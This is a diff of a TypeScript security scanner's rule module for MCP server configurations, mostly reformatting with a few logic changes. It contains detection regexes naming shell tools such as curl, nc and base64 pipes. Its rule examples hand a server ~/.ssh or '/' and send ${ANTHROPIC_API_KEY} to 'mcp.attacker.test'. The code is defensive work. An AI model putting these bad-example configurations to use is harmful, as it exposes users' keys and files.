@@ -1,13 +1,14 @@
 /** Server maps: who runs, what it may reach, what it is given (scanner.md 7.4). */
-import { BORROWED_SCOPES, KNOWN_NEIGHBOURS, KNOWN_PACKAGES, KNOWN_SCOPES } from '../data/known-packages.ts';
+
 import { credentialPaths } from '../data/credential-paths.ts';
 import { collectionHost } from '../data/hosts.ts';
+import { BORROWED_SCOPES, KNOWN_NEIGHBOURS, KNOWN_PACKAGES, KNOWN_SCOPES } from '../data/known-packages.ts';
 import { maliciousPackage } from '../data/malicious-packages.ts';
 import { VETTED_SERVERS } from '../data/vetted-servers.ts';
 import { type Address, isRawPublicAddress, networkOf, readAddress } from '../engine/address.ts';
 import { commandFacts, isInterpreter, POWERSHELLS, SHELLS } from '../engine/command-facts.ts';
 import { displayName } from '../engine/hygiene.ts';
-import { type JsonNode, type JsonObject, stringOf, valueOf } from '../engine/json-reader.ts';
+import { type JsonNode, type JsonObject, stringOf, valueAt } from '../engine/json-reader.ts';
 import { isPlainCommand } from '../engine/plain-command.ts';
 import type { Report } from '../engine/report.ts';
 import { baseName, parseShell } from '../engine/shell.ts';
@@ -43,7 +44,10 @@ export const mcpRules = family({
     rationale: 'An allowlist of names is worth what stands behind the name.',
     recommendation: 'Run the vetted package, or give the server its own name',
     bad: serverExample({ command: 'npx', args: ['-y', 'quick-file-helper'] }, 'filesystem'),
-    good: serverExample({ command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', './src'] }, 'filesystem'),
+    good: serverExample(
+      { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', './src'] },
+      'filesystem',
+    ),
   },
   'MCP-003': {
     severity: 'high',
@@ -126,8 +130,16 @@ export const mcpRules = family({
     title: 'A remote server is given a credential that belongs to somebody else',
     rationale: 'A key of the model vendor or the cloud account in a header of another host is a key handed over.',
     recommendation: 'Give the server a credential of its own',
-    bad: serverExample({ type: 'http', url: 'https://mcp.attacker.test/mcp', headers: { 'X-Key': '${ANTHROPIC_API_KEY}' } }),
-    good: serverExample({ type: 'http', url: 'https://mcp.linear.app/mcp', headers: { Authorization: 'Bearer ${LINEAR_API_KEY}' } }),
+    bad: serverExample({
+      type: 'http',
+      url: 'https://mcp.attacker.test/mcp',
+      headers: { 'X-Key': '${ANTHROPIC_API_KEY}' },
+    }),
+    good: serverExample({
+      type: 'http',
+      url: 'https://mcp.linear.app/mcp',
+      headers: { Authorization: 'Bearer ${LINEAR_API_KEY}' },
+    }),
   },
   'MCP-030': {
     severity: 'high',
@@ -137,7 +149,10 @@ export const mcpRules = family({
     rationale: 'A file server for / reads keys, mail and every project.',
     recommendation: 'Name the folder of the project',
     bad: serverExample({ command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/'] }),
-    good: serverExample({ command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/srv/project/x'] }),
+    good: serverExample({
+      command: 'npx',
+      args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/srv/project/x'],
+    }),
   },
   'MCP-031': {
     severity: 'high',
@@ -147,7 +162,10 @@ export const mcpRules = family({
     rationale: 'A server that is handed ~/.ssh has every key in it.',
     recommendation: 'Hand over the one secret the server needs by an environment reference',
     bad: serverExample({ command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '~/.ssh'] }),
-    good: serverExample({ command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', './docs'] }),
+    good: serverExample({
+      command: 'npx',
+      args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', './docs'],
+    }),
   },
   'MCP-032': {
     severity: 'high',
@@ -203,15 +221,39 @@ export const mcpRules = family({
 
 const R = mcpRules;
 /** Keys that are configuration, not text for the model. */
-const PLAIN_KEYS: ReadonlySet<string> = new Set(['command', 'args', 'env', 'url', 'serverUrl', 'httpUrl', 'headers', 'type', 'transport', 'transportType', 'timeout', 'cwd', 'disabled', 'enabled', 'autoApprove', 'auto_approve', 'alwaysAllow', 'headersHelper', 'id', 'version', 'icon', 'homepage', 'repository']);
+const PLAIN_KEYS: ReadonlySet<string> = new Set([
+  'command',
+  'args',
+  'env',
+  'url',
+  'serverUrl',
+  'httpUrl',
+  'headers',
+  'type',
+  'transport',
+  'transportType',
+  'timeout',
+  'cwd',
+  'disabled',
+  'enabled',
+  'autoApprove',
+  'auto_approve',
+  'alwaysAllow',
+  'headersHelper',
+  'id',
+  'version',
+  'icon',
+  'homepage',
+  'repository',
+]);
 
 /** `mcpServers`, `servers`, `mcp.servers`, or a bare map of objects with `command` or `url`. */
 export function findServers(root: JsonObject): { readonly node: JsonNode; readonly where: string } | null {
   for (const key of ['mcpServers', 'servers', 'mcp_servers', 'context_servers']) {
-    const node = valueOf(root, key);
+    const node = valueAt(root, key);
     if (node !== undefined) return { node, where: key };
   }
-  const nested = valueOf(valueOf(root, 'mcp'), 'servers') ?? valueOf(valueOf(root, 'mcp'), 'mcpServers');
+  const nested = valueAt(valueAt(root, 'mcp'), 'servers') ?? valueAt(valueAt(root, 'mcp'), 'mcpServers');
   if (nested !== undefined) return { node: nested, where: 'mcp.servers' };
   let servers = 0;
   for (const { value } of root.members.values()) if (isServer(value)) servers++;
@@ -219,14 +261,21 @@ export function findServers(root: JsonObject): { readonly node: JsonNode; readon
 }
 
 function isServer(node: JsonNode): boolean {
-  return node.kind === 'object' && (stringOf(valueOf(node, 'command')) !== undefined || stringOf(valueOf(node, 'url')) !== undefined || stringOf(valueOf(node, 'serverUrl')) !== undefined || stringOf(valueOf(node, 'httpUrl')) !== undefined);
+  return (
+    node.kind === 'object' &&
+    (stringOf(valueAt(node, 'command')) !== undefined ||
+      stringOf(valueAt(node, 'url')) !== undefined ||
+      stringOf(valueAt(node, 'serverUrl')) !== undefined ||
+      stringOf(valueAt(node, 'httpUrl')) !== undefined)
+  );
 }
 
 export function judgeServers(report: Report, map: JsonNode, options: ScanOptions, where: string): void {
   if (map.kind === 'array') {
     judgeWrongType(report, where, map.start, map.end);
     for (const item of map.items) {
-      if (item.kind === 'object') judgeServer(report, stringOf(valueOf(item, 'name')) ?? 'unnamed', item, item.start, item.start + 1, options);
+      if (item.kind === 'object')
+        judgeServer(report, stringOf(valueAt(item, 'name')) ?? 'unnamed', item, item.start, item.start + 1, options);
     }
     return;
   }
@@ -240,7 +289,12 @@ export function judgeServers(report: Report, map: JsonNode, options: ScanOptions
       else judgeServer(report, key, value, keyStart, keyEnd, options);
     } else if (where !== 'the file') {
       judgeWrongType(report, 'A server', value.start, value.end);
-      if (value.kind === 'string') judgeServerCommand(report, value.value, [], value.value, { start: value.start, end: value.end, subject: displayName(key) });
+      if (value.kind === 'string')
+        judgeServerCommand(report, value.value, [], value.value, {
+          start: value.start,
+          end: value.end,
+          subject: displayName(key),
+        });
     }
   }
 }
@@ -251,16 +305,26 @@ interface Place {
   readonly subject: string;
 }
 
-function judgeServer(report: Report, name: string, server: JsonObject, keyStart: number, keyEnd: number, options: ScanOptions): void {
-  const subject = displayName(name);
+function judgeServer(
+  report: Report,
+  written: string,
+  server: JsonObject,
+  keyStart: number,
+  keyEnd: number,
+  options: ScanOptions,
+): void {
+  const subject = displayName(written);
+  // The name is part of the identity of every finding: a name of a megabyte is known by its beginning and its place.
+  const name = written.length > 200 ? `${written.slice(0, 200)}…${keyStart}` : written;
   const key: Place = { start: keyStart, end: keyEnd, subject: name };
-  const commandNode = valueOf(server, 'command');
-  const argsNode = valueOf(server, 'args');
+  const commandNode = valueAt(server, 'command');
+  const argsNode = valueAt(server, 'args');
   const { command, args, places } = readCommand(report, commandNode, argsNode, name);
-  const urlNode = valueOf(server, 'url') ?? valueOf(server, 'serverUrl') ?? valueOf(server, 'httpUrl') ?? valueOf(server, 'endpoint');
+  const urlNode =
+    valueAt(server, 'url') ?? valueAt(server, 'serverUrl') ?? valueAt(server, 'httpUrl') ?? valueAt(server, 'endpoint');
   const url = stringOf(urlNode) ?? '';
   judgeName(report, name, subject, key, { command, args, url }, options);
-  for (const hit of readName(name)) addPoison(report, hit, key, `the name of server ${subject}`);
+  for (const hit of readName(written)) addPoison(report, hit, key, `the name of server ${subject}`);
 
   const commandPlace: Place = { start: commandNode?.start ?? keyStart, end: commandNode?.end ?? keyEnd, subject: name };
   if (command !== '') {
@@ -277,18 +341,30 @@ function judgeServer(report: Report, name: string, server: JsonObject, keyStart:
     judgeFreeText(report, url, `the address of server ${subject}`, place);
     judgeAddressIn(report, url, subject, place, true);
   } else if (urlNode !== undefined) judgeWrongType(report, 'url', urlNode.start, urlNode.end);
-  const helper = valueOf(server, 'headersHelper');
-  if (helper?.kind === 'string') judgeServerCommand(report, '', [], helper.value, { start: helper.start, end: helper.end, subject: name });
-  judgeEnvironment(report, name, subject, valueOf(server, 'env'), 'env');
-  judgeEnvironment(report, name, subject, valueOf(server, 'environment'), 'environment');
-  judgeHeaders(report, name, valueOf(server, 'headers') ?? valueOf(valueOf(server, 'requestInit'), 'headers'));
+  const helper = valueAt(server, 'headersHelper');
+  if (helper?.kind === 'string')
+    judgeServerCommand(report, '', [], helper.value, { start: helper.start, end: helper.end, subject: name });
+  judgeEnvironment(report, name, subject, valueAt(server, 'env'), 'env');
+  judgeEnvironment(report, name, subject, valueAt(server, 'environment'), 'environment');
+  judgeHeaders(report, name, valueAt(server, 'headers') ?? valueAt(valueAt(server, 'requestInit'), 'headers'));
   judgeForwarding(report, subject, server, url, name);
   judgeApprovals(report, subject, server, name);
-  judgeConfig(report, subject, valueOf(server, 'config') ?? valueOf(server, 'settings') ?? valueOf(server, 'options'), name);
-  for (const { key: member, value } of server.members.values()) if (!PLAIN_KEYS.has(member)) readTexts(report, value, subject, 0);
+  judgeConfig(
+    report,
+    subject,
+    valueAt(server, 'config') ?? valueAt(server, 'settings') ?? valueAt(server, 'options'),
+    name,
+  );
+  for (const { key: member, value } of server.members.values())
+    if (!PLAIN_KEYS.has(member)) readTexts(report, value, subject, 0);
 }
 
-function readCommand(report: Report, commandNode: JsonNode | undefined, argsNode: JsonNode | undefined, name: string): { command: string; args: string[]; places: Place[] } {
+function readCommand(
+  report: Report,
+  commandNode: JsonNode | undefined,
+  argsNode: JsonNode | undefined,
+  name: string,
+): { command: string; args: string[]; places: Place[] } {
   const args: string[] = [];
   const places: Place[] = [];
   let command = '';
@@ -300,10 +376,16 @@ function readCommand(report: Report, commandNode: JsonNode | undefined, argsNode
       args.push(word.value);
       places.push({ start: word.start, end: word.end, subject: name });
     }
-  } else if (commandNode !== undefined && commandNode.kind !== 'null') judgeWrongType(report, 'command', commandNode.start, commandNode.end);
+  } else if (commandNode !== undefined && commandNode.kind !== 'null')
+    judgeWrongType(report, 'command', commandNode.start, commandNode.end);
   if (argsNode?.kind === 'array') {
     for (const item of argsNode.items) {
-      const text = item.kind === 'string' ? item.value : item.kind === 'number' || item.kind === 'boolean' ? String(item.value) : null;
+      const text =
+        item.kind === 'string'
+          ? item.value
+          : item.kind === 'number' || item.kind === 'boolean'
+            ? String(item.value)
+            : null;
       if (text === null) {
         judgeWrongType(report, 'An argument', item.start, item.end);
         continue;
@@ -317,9 +399,14 @@ function readCommand(report: Report, commandNode: JsonNode | undefined, argsNode
       args.push(word);
       places.push({ start: argsNode.start, end: argsNode.end, subject: name });
     }
-  } else if (argsNode !== undefined && argsNode.kind !== 'null') judgeWrongType(report, 'args', argsNode.start, argsNode.end);
+  } else if (argsNode !== undefined && argsNode.kind !== 'null')
+    judgeWrongType(report, 'args', argsNode.start, argsNode.end);
   // A whole line in `command`: `npx -y pkg`.
-  if (args.length === 0 && /^\S{1,200}\s{1,4}\S/.test(command) && !/^(?:\/|[A-Za-z]:\\)[^"]{1,300}\.(?:exe|sh|js|py)$/.test(command)) {
+  if (
+    args.length === 0 &&
+    /^\S{1,200}\s{1,4}\S/.test(command) &&
+    !/^(?:\/|[A-Za-z]:\\)[^"]{1,300}\.(?:exe|sh|js|py)$/.test(command)
+  ) {
     const parsed = parseShell(command).commands[0];
     if (parsed !== undefined && parsed.words.length > 1) {
       for (const word of parsed.words.slice(1)) {
@@ -338,7 +425,13 @@ function quote(text: string): string {
 
 // ---------------------------------------------------------------- commands
 
-function judgeServerCommand(report: Report, command: string, args: readonly string[], line: string, place: Place): void {
+function judgeServerCommand(
+  report: Report,
+  command: string,
+  args: readonly string[],
+  line: string,
+  place: Place,
+): void {
   const name = baseName(command);
   const seen = new Set<string>();
   const judge = (text: string): void => {
@@ -360,14 +453,30 @@ function judgeServerCommand(report: Report, command: string, args: readonly stri
   };
   judge(line);
   // Each argument alone: a command that a server evaluates itself. Values of a program are words, not commands.
-  for (const text of args) if (/[\s;|&$`<>]/.test(text) && text.length > 8 && !/^(?:https?|wss?|postgres(?:ql)?|mysql|mongodb(?:\+srv)?|redis|mssql|amqp):\/\//.test(text)) judge(text);
+  const lines = args.filter(
+    (text) =>
+      /[\s;|&$`<>]/.test(text) &&
+      text.length > 8 &&
+      !/^(?:https?|wss?|postgres(?:ql)?|mysql|mongodb(?:\+srv)?|redis|mssql|amqp):\/\//.test(text),
+  );
+  for (const text of lines.slice(0, 100)) judge(text);
+  // Beyond a hundred they are read together, as one script.
+  if (lines.length > 100) judge(lines.slice(100).join('\n'));
   const shell = SHELLS.has(name) || POWERSHELLS.has(name) || name === 'cmd';
   if (shell && args.some((text) => /^(?:-[a-z]{0,6}c|\/[ck]|-Command|-EncodedCommand|-e\w{0,14})$/i.test(text))) {
     report.add(R['MCP-005'], { ...place, matched: 'shell', evidence: false });
   }
-  if (isInterpreter(name) || name === 'tsx' || name === 'ts-node' || name === 'npx' || name === 'bunx' || name === 'java') {
+  if (
+    isInterpreter(name) ||
+    name === 'tsx' ||
+    name === 'ts-node' ||
+    name === 'npx' ||
+    name === 'bunx' ||
+    name === 'java'
+  ) {
     const script = args.find((text) => !text.startsWith('-') && !/^(?:run|x|exec|-jar)$/.test(text)) ?? '';
-    if (/^https?:\/\//i.test(script) && !(name === 'npx' || name === 'bunx')) report.add(R['MCP-006'], { ...place, matched: 'remote', evidence: false });
+    if (/^https?:\/\//i.test(script) && !(name === 'npx' || name === 'bunx'))
+      report.add(R['MCP-006'], { ...place, matched: 'remote', evidence: false });
   }
   if (!shell && !SHELL_LIKE.has(name)) {
     for (const text of args) {
@@ -379,12 +488,32 @@ function judgeServerCommand(report: Report, command: string, args: readonly stri
 }
 
 /** Programs whose operands are command lines of another machine or container, judged as commands. */
-const SHELL_LIKE: ReadonlySet<string> = new Set(['ssh', 'docker', 'podman', 'wsl', 'kubectl', 'su', 'sudo', 'env', 'nix-shell', 'devcontainer', 'docker-compose', 'concurrently', 'npm-run-all', 'osascript']);
+const SHELL_LIKE: ReadonlySet<string> = new Set([
+  'ssh',
+  'docker',
+  'podman',
+  'wsl',
+  'kubectl',
+  'su',
+  'sudo',
+  'env',
+  'nix-shell',
+  'devcontainer',
+  'docker-compose',
+  'concurrently',
+  'npm-run-all',
+  'osascript',
+]);
 
 function carriesShellSyntax(text: string): boolean {
   if (text.length > 4_000 || /^[{[]/.test(text.trim()) || /^[a-z+]{2,20}:\/\/\S{1,4000}$/i.test(text)) return false;
   if (/\$\((?!\()|`[^`\n]{2,400}`/.test(text)) return true;
-  if (/;\s{0,4}(?:curl|wget|bash|sh|nc|rm|cat|python\d?|node|eval|exec|chmod|echo|export|touch|id|whoami|ls|powershell)\b/.test(text)) return true;
+  if (
+    /;\s{0,4}(?:curl|wget|bash|sh|nc|rm|cat|python\d?|node|eval|exec|chmod|echo|export|touch|id|whoami|ls|powershell)\b/.test(
+      text,
+    )
+  )
+    return true;
   if (/(?:&&|\|\|)\s{0,4}[a-z./]{2,60}/.test(text)) return true;
   return /\|\s{0,4}(?:sh|bash|zsh|nc|tee|python\d?|node|sudo|xargs|curl|base64)\b/.test(text);
 }
@@ -399,20 +528,45 @@ interface Runs {
 
 const VETTED = new Map(VETTED_SERVERS.map((server) => [server.name, server]));
 
-function judgeName(report: Report, name: string, subject: string, place: Place, runs: Runs, options: ScanOptions): void {
+function judgeName(
+  report: Report,
+  name: string,
+  subject: string,
+  place: Place,
+  runs: Runs,
+  options: ScanOptions,
+): void {
   const vetted = VETTED.get(name);
   const extra = options.allowedServers.find((server) => server.name === name);
   const identities = [...(vetted?.identities ?? []), ...(extra?.identity ? [extra.identity] : [])];
-  if (vetted === undefined && extra === undefined) report.add(R['MCP-001'], { ...place, matched: name, description: `Server ${subject} is not on the vetted list`, evidence: false });
+  if (vetted === undefined && extra === undefined)
+    report.add(R['MCP-001'], {
+      ...place,
+      matched: name,
+      description: `Server ${subject} is not on the vetted list`,
+      evidence: false,
+    });
   else if (identities.length > 0 && (runs.command !== '' || runs.url !== '') && !runsOneOf(runs, identities)) {
-    report.add(R['MCP-002'], { ...place, matched: name, description: `Server ${subject} has a vetted name and runs something else`, evidence: false });
+    report.add(R['MCP-002'], {
+      ...place,
+      matched: name,
+      description: `Server ${subject} has a vetted name and runs something else`,
+      evidence: false,
+    });
   }
   if (vetted !== undefined || extra !== undefined) return;
   const near = nearestName(name);
   if (near === null) return;
   // The honest package under a name that is spelt differently is a slip, not a trap.
-  const honest = VETTED.get(near)!.identities.length > 0 && runsOneOf(runs, VETTED.get(near)!.identities) && isAscii(name);
-  report.add(R['MCP-003'], { ...place, matched: name, severity: honest ? 'medium' : undefined, description: `The server name ${subject} is one slip away from ${near}`, evidence: false });
+  const honest =
+    VETTED.get(near)!.identities.length > 0 && runsOneOf(runs, VETTED.get(near)!.identities) && isAscii(name);
+  report.add(R['MCP-003'], {
+    ...place,
+    matched: name,
+    severity: honest ? 'medium' : undefined,
+    description: `The server name ${subject} is one slip away from ${near}`,
+    evidence: false,
+  });
 }
 
 /** The vetted name that `name` could be mistaken for. */
@@ -430,7 +584,11 @@ function nearestName(name: string): string | null {
 
 /** Skeleton, `1/l/I` and `0/O` folded, hyphens dropped. */
 function fold(name: string): string {
-  return skeleton(name).replace(/[1|!]/g, 'l').replace(/i/g, 'l').replace(/0/g, 'o').replace(/[-_. ]/g, '');
+  return skeleton(name)
+    .replace(/[1|!]/g, 'l')
+    .replace(/i/g, 'l')
+    .replace(/0/g, 'o')
+    .replace(/[-_. ]/g, '');
 }
 
 function runsOneOf(runs: Runs, identities: readonly string[]): boolean {
@@ -452,36 +610,72 @@ function identityMatches(text: string, identity: string): boolean {
   if (address !== null) return address.host === identity;
   const plain = text.replace(/\\/g, '/');
   const bare = withoutVersion(plain);
-  if (bare === identity || bare.split('/').slice(1).join('/') === identity && /^(?:docker\.io|ghcr\.io)\//.test(bare)) return true;
-  return plain.includes(`node_modules/${identity}`) || new Set([`${identity}/dist/index.js`, `${identity}/index.js`]).has(plain);
+  if (bare === identity || (bare.split('/').slice(1).join('/') === identity && /^(?:docker\.io|ghcr\.io)\//.test(bare)))
+    return true;
+  return (
+    plain.includes(`node_modules/${identity}`) ||
+    new Set([`${identity}/dist/index.js`, `${identity}/index.js`]).has(plain)
+  );
 }
 
 /** `@scope/name@1.2.3` → `@scope/name`; `name==1.0` → `name`; `image:tag` → `image`. */
 function withoutVersion(spec: string): string {
   const at = spec.indexOf('@', 1);
   const base = at === -1 ? spec : spec.slice(0, at);
-  return base.replace(/(?:==|>=|~=|<=|[<>]).*$/s, '').replace(/\[[^\]]{0,80}\]$/, '').replace(/(?<=[\w-]):[\w.-]{1,80}$/, '');
+  return base
+    .replace(/(?:==|>=|~=|<=|[<>])[\s\S]{0,4000}$/, '')
+    .replace(/\[[^\]]{0,80}\]$/, '')
+    .replace(/(?<=[\w-]):[\w.-]{1,80}$/, '');
 }
 
 const RUNNERS: ReadonlySet<string> = new Set(['npx', 'bunx', 'uvx', 'pipx', 'pnpx', 'dlx']);
-const VALUED_OPTION = /^(?:-p|--package|--from|--with|--python|--registry|--index-url|--cache|--prefix|--node-options|-c|--call|--spec|--index|--extra-index-url)$/;
+const VALUED_OPTION =
+  /^(?:-p|--package|--from|--with|--python|--registry|--index-url|--cache|--prefix|--node-options|-c|--call|--spec|--index|--extra-index-url)$/;
 
-function judgePackages(report: Report, name: string, subject: string, command: string, args: readonly string[], places: readonly Place[], commandPlace: Place): void {
+function judgePackages(
+  report: Report,
+  name: string,
+  subject: string,
+  command: string,
+  args: readonly string[],
+  places: readonly Place[],
+  commandPlace: Place,
+): void {
   for (const { spec, place, pinned } of packagesOf(command, args, places, commandPlace)) {
     const bare = withoutVersion(spec);
     const reported = maliciousPackage(bare);
     if (reported !== undefined) {
-      report.add(R['MCP-004'], { ...place, subject: name, matched: bare, description: `Server ${subject} runs ${reported.name}, which was reported as malicious`, evidence: false });
+      report.add(R['MCP-004'], {
+        ...place,
+        subject: name,
+        matched: bare,
+        description: `Server ${subject} runs ${reported.name}, which was reported as malicious`,
+        evidence: false,
+      });
       continue;
     }
     if (/^(?:git\+|https?:|github:|git:|git@|bitbucket:|gitlab:)/.test(spec)) {
       const commit = /(?:#|@)[0-9a-f]{7,40}$/.test(spec);
       const plainHttp = /^(?:git\+)?http:\/\//.test(spec);
-      if (!commit || plainHttp) report.add(R['MCP-007'], { ...place, subject: name, matched: spec, description: `Server ${subject} is installed from an address at every start`, evidence: false });
+      if (!commit || plainHttp)
+        report.add(R['MCP-007'], {
+          ...place,
+          subject: name,
+          matched: spec,
+          description: `Server ${subject} is installed from an address at every start`,
+          evidence: false,
+        });
       continue;
     }
     judgeSpelling(report, name, subject, bare, place);
-    if (!pinned) report.add(R['MCP-008'], { ...place, subject: name, matched: bare, description: `Server ${subject} runs the newest version of its package at every start`, evidence: false });
+    if (!pinned)
+      report.add(R['MCP-008'], {
+        ...place,
+        subject: name,
+        matched: bare,
+        description: `Server ${subject} runs the newest version of its package at every start`,
+        evidence: false,
+      });
   }
 }
 
@@ -492,19 +686,33 @@ interface Package {
 }
 
 /** What the package runner is asked to run, also behind `cmd /c`, `bash -c` and `docker run`. */
-function packagesOf(command: string, args: readonly string[], places: readonly Place[], commandPlace: Place): Package[] {
+function packagesOf(
+  command: string,
+  args: readonly string[],
+  places: readonly Place[],
+  commandPlace: Place,
+): Package[] {
   const name = baseName(command);
   const found: Package[] = [];
   let runner = RUNNERS.has(name) ? 0 : -1;
   if (runner === -1) {
     for (let i = 0; i < args.length; i++) {
       const word = baseName(args[i]!);
-      if (RUNNERS.has(word) || ((name === 'npm' || name === 'pnpm' || name === 'yarn' || name === 'bun' || name === 'uv') && /^(?:exec|dlx|x|run|create|tool)$/.test(word) && i === 0 && !(name !== 'uv' && word === 'run'))) {
+      if (
+        RUNNERS.has(word) ||
+        ((name === 'npm' || name === 'pnpm' || name === 'yarn' || name === 'bun' || name === 'uv') &&
+          /^(?:exec|dlx|x|run|create|tool)$/.test(word) &&
+          i === 0 &&
+          !(name !== 'uv' && word === 'run'))
+      ) {
         runner = i + 1;
         break;
       }
       // A shell line: `bash -c "npx -y pkg"`.
-      const inner = /(?:^|[\s;&|])(?:npx|uvx|bunx|pnpx)\s{1,4}((?:-{1,2}[\w-]{1,30}(?:=\S{1,60})?\s{1,4}){0,6})([@\w][\w@./+~^=<>-]{1,120})/.exec(args[i]!);
+      const inner =
+        /(?:^|[\s;&|])(?:npx|uvx|bunx|pnpx)\s{1,4}((?:-{1,2}[\w-]{1,30}(?:=\S{1,60})?\s{1,4}){0,6})([@\w][\w@./+~^=<>-]{1,120})/.exec(
+          args[i]!,
+        );
       if (inner !== null) {
         found.push(asPackage(inner[2]!, places[i]!));
         return found;
@@ -544,16 +752,33 @@ function asPackage(spec: string, place: Place): Package {
 
 const KNOWN = new Set(KNOWN_PACKAGES);
 const KNOWN_FOLDED = new Map(KNOWN_PACKAGES.map((known) => [fold(known), known]));
-const OFFICIAL_SUFFIXES = new Set(KNOWN_PACKAGES.filter((known) => known.startsWith('@modelcontextprotocol/server-')).map((known) => known.slice('@modelcontextprotocol/'.length)));
+const OFFICIAL_SUFFIXES = new Set(
+  KNOWN_PACKAGES.filter((known) => known.startsWith('@modelcontextprotocol/server-')).map((known) =>
+    known.slice('@modelcontextprotocol/'.length),
+  ),
+);
 
 function judgeSpelling(report: Report, server: string, subject: string, name: string, place: Place): void {
-  if (name.length > 120 || /^[./~$%]|^[A-Za-z]:|[${}]/.test(name) || KNOWN.has(name) || KNOWN_NEIGHBOURS.has(name)) return;
+  if (name.length > 120 || /^[./~$%]|^[A-Za-z]:|[${}]/.test(name) || KNOWN.has(name) || KNOWN_NEIGHBOURS.has(name))
+    return;
   const say = (known: string): void => {
-    report.add(R['MCP-003'], { ...place, subject: server, matched: name, description: `A package of server ${subject} is one slip away from ${known}`, evidence: false });
+    report.add(R['MCP-003'], {
+      ...place,
+      subject: server,
+      matched: name,
+      description: `A package of server ${subject} is one slip away from ${known}`,
+      evidence: false,
+    });
   };
   const borrowed = BORROWED_SCOPES.find(({ pattern }) => pattern.test(name));
   if (borrowed !== undefined) {
-    report.add(R['MCP-003'], { ...place, subject: server, matched: name, description: `A package of server ${subject} borrows the scope ${borrowed.scope}`, evidence: false });
+    report.add(R['MCP-003'], {
+      ...place,
+      subject: server,
+      matched: name,
+      description: `A package of server ${subject} borrows the scope ${borrowed.scope}`,
+      evidence: false,
+    });
     return;
   }
   const folded = fold(name);
@@ -579,7 +804,12 @@ function judgeSpelling(report: Report, server: string, subject: string, name: st
     if (!KNOWN_SCOPES.includes(scope)) {
       for (const known of KNOWN_SCOPES) {
         const limit = known.length >= 12 ? 2 : known.length >= 8 ? 1 : 0;
-        if ((limit > 0 && editDistance(scope, known, limit) <= limit) || fold(scope) === fold(known) || (known === '@modelcontextprotocol' && /^@model-?context-?protocols?(?:-?(?:official|servers?|org|io|team|inc))?$/.test(scope))) {
+        if (
+          (limit > 0 && editDistance(scope, known, limit) <= limit) ||
+          fold(scope) === fold(known) ||
+          (known === '@modelcontextprotocol' &&
+            /^@model-?context-?protocols?(?:-?(?:official|servers?|org|io|team|inc))?$/.test(scope))
+        ) {
           say(known);
           return;
         }
@@ -613,25 +843,53 @@ function sharesShape(name: string, known: string): boolean {
   const strip = (text: string): string => text.replace(/^(?:mcp-server-|mcp-)|(?:-mcp-server|-mcp|-server)$/g, '');
   const a = strip(name);
   const b = strip(known);
-  if (a === b) return a.length >= 6 && Math.abs(name.length - known.length) <= 1 && !/^(?:mcp|server)/.test(name.slice(0, 1));
+  if (a === b)
+    return a.length >= 6 && Math.abs(name.length - known.length) <= 1 && !/^(?:mcp|server)/.test(name.slice(0, 1));
   const limit = b.length >= 10 ? 2 : b.length >= 5 ? 1 : 0;
   return limit > 0 && editDistance(a, b, limit) <= limit;
 }
 
 // ---------------------------------------------------------------- paths and addresses
 
-const WHOLE = /^(?:\/|~|~\/|\$\{?HOME\}?\/?|\$\{env:HOME\}\/?|[A-Za-z]:[\\/]{0,2}|\/etc\/?|\/root\/?|~root\/?|\/home\/?|\/Users\/?|\/var\/?|\/usr\/?|%USERPROFILE%|[A-Za-z]:[\\/]{1,2}Users[\\/]{0,2}|\/mnt\/c\/?|\/\*\*?|~\/\*\*?|file:\/\/\/)$/;
+const WHOLE =
+  /^(?:\/|~|~\/|\$\{?HOME\}?\/?|\$\{env:HOME\}\/?|[A-Za-z]:[\\/]{0,2}|\/etc\/?|\/root\/?|~root\/?|\/home\/?|\/Users\/?|\/var\/?|\/usr\/?|%USERPROFILE%|[A-Za-z]:[\\/]{1,2}Users[\\/]{0,2}|\/mnt\/c\/?|\/\*\*?|~\/\*\*?|file:\/\/\/)$/;
 
-function judgeArgumentPaths(report: Report, subject: string, command: string, args: readonly string[], places: readonly Place[]): void {
+function judgeArgumentPaths(
+  report: Report,
+  subject: string,
+  command: string,
+  args: readonly string[],
+  places: readonly Place[],
+): void {
   const joined = `${command} ${args.join(' ')}`.slice(0, 20_000).toLowerCase();
   for (const [i, text] of args.entries()) {
     const value = /^--?[\w-]{1,40}=(.{1,400})$/.exec(text)?.[1] ?? text;
-    if (WHOLE.test(value) && !/^(?:--?(?:prefix|route|path-prefix|base-?path|endpoint|path|mcp-path|streamable-?http-?path)|-w|--workdir|--working-directory)$/i.test(args[i - 1] ?? '') && !/^--?(?:prefix|route|path-prefix|base-?path|endpoint|path|mcp-path|workdir)=/i.test(text) && !(SHELLS.has(baseName(command)) && value.startsWith('/') && value.length <= 2)) {
-      report.add(R['MCP-030'], { ...places[i]!, matched: value, description: `Server ${subject} is given a whole file system or home folder`, evidence: false });
+    if (
+      WHOLE.test(value) &&
+      !/^(?:--?(?:prefix|route|path-prefix|base-?path|endpoint|path|mcp-path|streamable-?http-?path)|-w|--workdir|--working-directory)$/i.test(
+        args[i - 1] ?? '',
+      ) &&
+      !/^--?(?:prefix|route|path-prefix|base-?path|endpoint|path|mcp-path|workdir)=/i.test(text) &&
+      !(SHELLS.has(baseName(command)) && value.startsWith('/') && value.length <= 2)
+    ) {
+      report.add(R['MCP-030'], {
+        ...places[i]!,
+        matched: value,
+        description: `Server ${subject} is given a whole file system or home folder`,
+        evidence: false,
+      });
     }
     const paths = credentialPaths(text);
-    if (paths.length > 0 && paths.some(({ start, end }) => !ownStore(text.slice(start, end), joined, args[i - 1] ?? ''))) {
-      report.add(R['MCP-031'], { ...places[i]!, matched: 'store', description: `Server ${subject} is given a credential store`, evidence: false });
+    if (
+      paths.length > 0 &&
+      paths.some(({ start, end }) => !ownStore(text.slice(start, end), joined, args[i - 1] ?? ''))
+    ) {
+      report.add(R['MCP-031'], {
+        ...places[i]!,
+        matched: 'store',
+        description: `Server ${subject} is given a credential store`,
+        evidence: false,
+      });
     }
   }
 }
@@ -639,10 +897,17 @@ function judgeArgumentPaths(report: Report, subject: string, command: string, ar
 /** A Kubernetes server reads a kubeconfig, a Google server the Google credentials: that is what they are for. */
 function ownStore(path: string, line: string, option: string): boolean {
